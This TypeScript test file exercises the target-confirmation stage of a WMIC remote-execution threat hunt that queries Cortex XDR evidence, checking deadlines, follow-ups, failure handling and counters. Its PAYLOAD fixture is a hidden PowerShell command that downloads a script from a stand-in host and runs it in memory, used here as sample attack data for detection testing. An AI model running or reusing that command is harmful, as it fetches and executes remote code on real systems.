/**
 * The confirm stage on its own (stages/confirm.ts): which pairs it checks on the target, within
 * which deadline, what an analyst reads when no time was left or the check broke, which repeats
 * earn a follow-up, and the summary counters. The evidence source is scripted (it records each
 * request and the deadline it was given); rows are shaped as XsiamTargetEvidence returns them.
 */
import { describe, expect, it } from 'vitest';
import { defaultRunSettings } from '../../lambda/config.js';
import type { TargetEvent, TargetEvidenceRequest, TargetEvidenceSource } from '../../lambda/confirm/types.js';
import type { TrackedFinding } from '../../lambda/finding.js';
import { WMIC_REMOTE_EXEC } from '../../lambda/hunts/index.js';
import type { AwaitingPair, Log, RunSettings, StateStore } from '../../lambda/ports.js';
import type { RunContext } from '../../lambda/run/context.js';
import { COMMIT_RESERVE_MS, CONFIRM_BUDGET_MS } from '../../lambda/run/limits.js';
import { confirm, followUpDue } from '../../lambda/run/stages/confirm.js';
import type { XsiamCredentials } from '../../lambda/xsiam/index.js';
import { makeFinding, T0 } from '../fixtures/notify/findings.js';

const MIN = 60_000;
const NOW = T0 + 60 * MIN;
const HORIZON = 30 * MIN;
const SETTINGS: RunSettings = { ...defaultRunSettings(), confirmTargets: true, confirmHorizonMs: HORIZON, lateArrivalMs: 0, ingestLagMs: 5 * MIN };
const CREDS = { url: 'https://api-corp.xdr.eu.paloaltonetworks.com', keyId: '7', apiKey: 'k'.repeat(64), keyType: 'advanced' } as unknown as XsiamCredentials;
const PAYLOAD = 'powershell.exe -nop -w hidden -c "iex (iwr http://10.0.0.5/a.ps1)"';

/**
 * WmiPrvSE.exe's child on the target, as XsiamTargetEvidence maps an xdr_data PROCESS_START row
 * (action_process_* fields; Cortex XDR schema, xdr_data dataset).
 */
const started = (host: string, event: Partial<TargetEvent> = {}): TargetEvent => ({
  eventId: `evt-${host}`, time: T0 + 2_000, agentId: `agent-${host}`, agentHostname: host.toUpperCase(), agentIps: ['10.1.1.21'],
  process: 'powershell.exe', processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: PAYLOAD,
  user: 'CORP\\svc_backup', ...event,
});

/** Finds `events` and an agent for every target asked about; records requests and deadlines. */
function source(events: readonly TargetEvent[] = []): TargetEvidenceSource & { requests: TargetEvidenceRequest[]; deadlines: number[] } {
  const requests: TargetEvidenceRequest[] = [];
  const deadlines: number[] = [];
  return {
    requests, deadlines,
    async collect(_c, request, options) {
      requests.push(request);
      deadlines.push(options.deadline);
      return {
        range: request.range, events: events.filter((e) => request.targets.includes(e.agentHostname!.toLowerCase())), eventsComplete: true,
        agents: request.targets.map((t) => ({ agentId: `agent-${t}`, hostname: t.toUpperCase(), ips: ['10.1.1.21'], status: 'CONNECTED' })),
        report: { httpCalls: 3, queryCost: 0.5, queries: 1, endpointRequests: 1 },
      };
    },
  };
}

let warnings: { message: string; extra?: Record<string, unknown> }[] = [];
const log: Log = { debug() {}, info() {}, error() {}, warn: (message, extra) => warnings.push({ message, extra }) };

function context(evidence: TargetEvidenceSource | undefined, options: { settings?: Partial<RunSettings>; deadline?: number; awaiting?: AwaitingPair[] } = {}): RunContext {
  warnings = [];
  const state = {
    readAwaiting: async () => options.awaiting ?? [],
    claimFollowUps: async (_h: string, fps: readonly string[]) => [...fps],
  } as unknown as StateStore;
  return {
    ports: { clock: { now: () => NOW }, log, state, credentials: { get: async () => CREDS }, ...(evidence ? { targetEvidence: evidence } : {}) } as unknown as RunContext['ports'],
    request: { hunt: WMIC_REMOTE_EXEC, settings: { ...SETTINGS, ...options.settings }, runId: 'run-1', deadline: options.deadline ?? NOW + 10 * MIN },
    flags: { window: null, advancesCheckpoint: true, publish: true },
  };
}

const newPair = (target: string): TrackedFinding => makeFinding({ targetHost: target, remoteCommand: PAYLOAD });

/** A repeat notified `ageMs` before NOW with `confirmation`, no follow-up sent yet. */
const repeat = (target: string, ageMs: number, confirmation: 'not-seen' | 'unavailable' | 'confirmed' = 'not-seen'): TrackedFinding =>
  makeFinding({ targetHost: target, remoteCommand: PAYLOAD, status: 'NOTIFIED', sent: { notifiedAt: NOW - ageMs, confirmation, followUpSent: null } });

describe('followUpDue', () => {
  it('a repeat notified not-seen is re-checked up to the horizon inclusive, not one ms after', () => {
    expect(followUpDue(repeat('srv-file-01', HORIZON), NOW, HORIZON)).toBe(true);
    expect(followUpDue(repeat('srv-file-01', HORIZON + 1), NOW, HORIZON)).toBe(false);
  });
});

describe('the confirm stage', () => {
  it('with confirmation off, or no evidence source, every pair goes out as it came, unchecked', async () => {
    const pairs = [newPair('srv-file-01'), newPair('srv-sql-01')];
    expect(await confirm(context(source(), { settings: { confirmTargets: false } }), pairs, [])).toEqual({ toNotify: pairs, followUps: [], counts: {} });
    expect(await confirm(context(undefined), pairs, [])).toEqual({ toNotify: pairs, followUps: [], counts: {} });
  });

  it('nothing to check: no query, no counters', async () => {
    const evidence = source();
    expect(await confirm(context(evidence), [], [repeat('srv-file-01', HORIZON + 1)])).toEqual({ toNotify: [], followUps: [], counts: {} });
    expect(evidence.requests).toEqual([]);
  });

  it('checks new pairs and due repeats in one query, counts each outcome and the cost; a repeat the target now confirms earns its follow-up', async () => {
    const evidence = source([started('srv-file-01'), started('srv-bkp-02')]);
    const fresh = [newPair('srv-file-01'), newPair('srv-sql-01')];
    const due = repeat('srv-bkp-02', HORIZON);
    const stale = repeat('srv-app-03', HORIZON + 1);
    const out = await confirm(context(evidence), fresh, [due, stale]);
    expect(evidence.requests.map((r) => [...r.targets].sort())).toEqual([['srv-bkp-02', 'srv-file-01', 'srv-sql-01']]);
    expect(out.toNotify.map((f) => f.confirmation?.status)).toEqual(['confirmed', 'not-seen']);
    expect(out.followUps.map((f) => [f.fingerprint, f.followUp, f.confirmation?.status])).toEqual([[due.fingerprint, true, 'confirmed']]);
    expect(out.counts).toEqual({
      confirmed: 1, notSeen: 1, unmanaged: 0, unavailable: 0, confirmQueries: 1, confirmHttpCalls: 3, confirmQueryCost: 0.5, confirmEndpointRequests: 1,
    });
  });

  it(`gives the check at most ${CONFIRM_BUDGET_MS / 1000} s, and never the last ${COMMIT_RESERVE_MS / 1000} s before the run's deadline`, async () => {
    const roomy = source();
    await confirm(context(roomy, { deadline: NOW + 10 * MIN }), [newPair('srv-file-01')], []);
    expect(roomy.deadlines).toEqual([NOW + CONFIRM_BUDGET_MS]);
    const tight = source();
    await confirm(context(tight, { deadline: NOW + COMMIT_RESERVE_MS + 10_000 }), [newPair('srv-file-01')], []);
    expect(tight.deadlines).toEqual([NOW + 10_000]);
  });

  it('with no time left before the commit reserve, nothing is queried and the analyst reads why; one ms more and the target is checked', async () => {
    const none = source([started('srv-file-01')]);
    const out = await confirm(context(none, { deadline: NOW + COMMIT_RESERVE_MS }), [newPair('srv-file-01')], []);
    expect(none.requests).toEqual([]);
    expect(out.toNotify[0]!.confirmation).toMatchObject({ status: 'unavailable', detail: expect.stringContaining('no time was left before the run deadline') as string });
    expect(out.counts).toMatchObject({ unavailable: 1, confirmQueries: 0 });

    const barely = source([started('srv-file-01')]);
    const checked = await confirm(context(barely, { deadline: NOW + COMMIT_RESERVE_MS + 1 }), [newPair('srv-file-01')], []);
    expect(barely.deadlines).toEqual([NOW + 1]);
    expect(checked.toNotify[0]!.confirmation?.status).toBe('confirmed');
  });

  it('a source that breaks its promise (a malformed row) still lets every pair go out, unavailable, and tells ops the error by name', async () => {
    const broken: TargetEvidenceSource = {
      async collect(_c, request) {
        return { range: request.range, events: [null as unknown as TargetEvent], eventsComplete: true, agents: [], report: { httpCalls: 1, queryCost: 0, queries: 1, endpointRequests: 0 } };
      },
    };
    const out = await confirm(context(broken), [newPair('srv-file-01')], []);
    expect(out.toNotify).toHaveLength(1);
    expect(out.toNotify[0]!.confirmation).toMatchObject({ status: 'unavailable', detail: expect.stringContaining('the target-side check failed') as string });
    expect(warnings).toEqual([{ message: expect.stringContaining('target confirmation failed') as string, extra: { error: 'TypeError' } }]);
  });

  it('something thrown that is not an Error is named to ops, never blank', async () => {
    const rows: TargetEvent[] = [];
    Object.defineProperty(rows, 0, { get: () => { throw 'socket hang up' as unknown as Error; } });
    rows.length = 1;
    const broken: TargetEvidenceSource = {
      async collect(_c, request) {
        return { range: request.range, events: rows, eventsComplete: true, agents: [], report: { httpCalls: 1, queryCost: 0, queries: 1, endpointRequests: 0 } };
      },
    };
    expect((await confirm(context(broken), [newPair('srv-file-01')], [])).toNotify[0]!.confirmation?.status).toBe('unavailable');
    expect(warnings.map((w) => w.extra)).toEqual([{ error: 'UnknownError' }]);
  });

  it('a window\'s chunk re-checks within the confirmation horizon, a late sweep\'s within the late-arrival one, and each awaiting pair once', async () => {
    const settings = { lateArrivalMs: 6 * 60 * MIN };
    const older = repeat('srv-bkp-02', 2 * 60 * MIN);
    const young = repeat('srv-app-03', 10 * MIN);
    const entry = (f: TrackedFinding): AwaitingPair => ({
      fingerprint: `awaiting-${f.fingerprint}`, sourceHost: f.sourceHost, targetHost: f.targetHost, remoteCommand: f.remoteCommand, user: f.user,
      firstSeen: f.firstSeen, lastSeen: f.lastSeen, severity: f.severity, riskScore: f.riskScore, notifiedAt: f.sent!.notifiedAt!,
    });
    const awaitingOld = { ...entry(older), targetHost: 'srv-old-04' };
    const awaitingYoung = { ...entry(young), targetHost: 'srv-new-05' };
    // An awaiting pair this chunk also read as a repeat is judged by the repeat alone.
    const alsoRead = { ...entry(young), fingerprint: young.fingerprint, targetHost: 'srv-dup-06' };
    const awaiting = [awaitingOld, awaitingYoung, alsoRead];
    const targets = (evidence: { requests: TargetEvidenceRequest[] }) => evidence.requests.flatMap((r) => [...r.targets]).sort();

    const window = source();
    await confirm(context(window, { settings, awaiting }), [], [older, young]);
    expect(targets(window)).toEqual(['srv-app-03', 'srv-new-05', 'srv-old-04']);

    const sweep = source();
    await confirm(context(sweep, { settings, awaiting }), [], [older, young], true);
    // The sweep reads every repeat within six hours, but of the awaiting list only the pairs past the window's horizon.
    expect(targets(sweep)).toEqual(['srv-app-03', 'srv-bkp-02', 'srv-old-04']);
  });
});
